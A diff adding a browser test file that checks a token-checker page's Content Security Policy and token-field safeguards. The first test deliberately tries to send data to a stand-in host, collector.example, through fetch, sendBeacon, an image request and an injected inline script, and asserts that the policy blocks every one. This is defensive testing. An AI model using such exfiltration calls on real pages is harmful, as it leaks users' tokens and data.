@@ -1,0 +1,121 @@
+"""Attempts to get the token out of the page: the browser-enforced policy must stop them."""
+
+from __future__ import annotations
+
+import shutil
+import threading
+from collections.abc import Iterator
+from functools import partial
+from http.server import ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import build
+from tests.checker_page import CheckerPage
+from tests.conftest import audited_context
+from tests.fake_netlify import TOKEN, FakeNetlify
+
+
+def test_a_script_sending_data_elsewhere_is_blocked_by_the_policy(
+    page: Any, site: str, netlify: FakeNetlify
+) -> None:
+    page.context._test_audit.allow_violations = True
+    CheckerPage(page, site).open(wait_ready=False)
+    outcome = page.evaluate(
+        """async () => {
+          const tries = {};
+          try { await fetch("https://collector.example/steal?d=x"); tries.fetch = "sent"; }
+          catch { tries.fetch = "failed"; }
+          tries.beacon = navigator.sendBeacon("https://collector.example/b", "x");
+          new Image().src = "https://collector.example/i.png";
+          const script = document.createElement("script");
+          script.textContent = "window.inlineRan = true";
+          document.body.append(script);
+          await new Promise((resolve) => setTimeout(resolve, 300));
+          tries.inline = window.inlineRan === true;
+          return tries;
+        }"""
+    )
+    assert (outcome["fetch"], outcome["inline"]) == ("failed", False)
+    violations = page.evaluate("() => window.__policyViolations")
+    assert "connect-src blocked https://collector.example/steal?d=x" in violations
+    assert "connect-src blocked https://collector.example/b" in violations
+    assert "img-src blocked https://collector.example/i.png" in violations
+    assert any(v.startswith("script-src-elem blocked inline") for v in violations)
+
+
+def test_without_javascript_enter_sends_the_token_nowhere(
+    browser: Any, site: str, netlify: FakeNetlify
+) -> None:
+    with audited_context(browser, site, java_script_enabled=False) as ctx:
+        ctx._test_audit.allow_violations = True
+        page = ctx.new_page()
+        page.goto(site)
+        page.get_by_label("Personal access token").fill(TOKEN)
+        page.keyboard.press("Enter")
+        page.wait_for_timeout(500)
+        assert page.url == site
+        assert TOKEN not in page.url
+        assert netlify.requests == []
+        # The policy's form-action 'none' refused the submission: nothing was posted.
+        assert not ctx._test_audit.bodies
+
+
+def test_the_token_field_is_not_remembered_or_spellchecked(page: Any, site: str) -> None:
+    CheckerPage(page, site).open(wait_ready=False)
+    field = page.get_by_label("Personal access token")
+    assert field.get_attribute("type") == "password"
+    assert field.get_attribute("autocomplete") == "off"
+    assert field.get_attribute("spellcheck") == "false"
+
+
+def test_the_page_has_no_inline_script_or_style(dist: Path) -> None:
+    html = (dist / "index.html").read_text()
+    assert "<script>" not in html and "<style" not in html and " style=" not in html
+    assert "onclick" not in html.lower()
+
+
+# --- a runtime that will not load ---------------------------------------------------------------
+
+
+@pytest.fixture
+def broken_site(dist: Path, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[str]:
+    """dist/ served with the runtime's .wasm missing, or served as the wrong type."""
+    copy = tmp_path / "dist"
+    shutil.copytree(dist, copy)
+    wasm = copy / "pyodide" / build.PYODIDE_VERSION / "pyodide.asm.wasm"
+    extensions = dict(build.SiteHandler.extensions_map)
+    if request.param == "missing":
+        wasm.unlink()
+    else:
+        extensions[".wasm"] = "text/plain"
+    handler = type(
+        "Broken",
+        (build.SiteHandler,),
+        {"rules": build.header_rules(), "extensions_map": extensions},
+    )
+    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(copy)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("broken_site", ["missing", "wrong-type"], indirect=True)
+def test_a_runtime_that_fails_to_load_is_explained_within_15_seconds(
+    browser: Any, broken_site: str, netlify: FakeNetlify
+) -> None:
+    with audited_context(browser, broken_site) as ctx:
+        page = ctx.new_page()
+        checker = CheckerPage(page, broken_site).open(wait_ready=False)
+        alert_shown = "() => document.querySelector('[role=alert]').textContent !== ''"
+        checker.until(alert_shown, None, 15_000)
+        assert "Python could not be loaded" in checker.alert.inner_text()
+        # Pressing the button tries to load again, and fails again just as clearly.
+        checker.submit(team="acme")
+        assert "Loading Python again" in page.get_by_role("status").inner_text()
+        checker.until(alert_shown, None, 15_000)
+        assert "Python could not be loaded" in checker.alert.inner_text()
+        assert netlify.requests == []
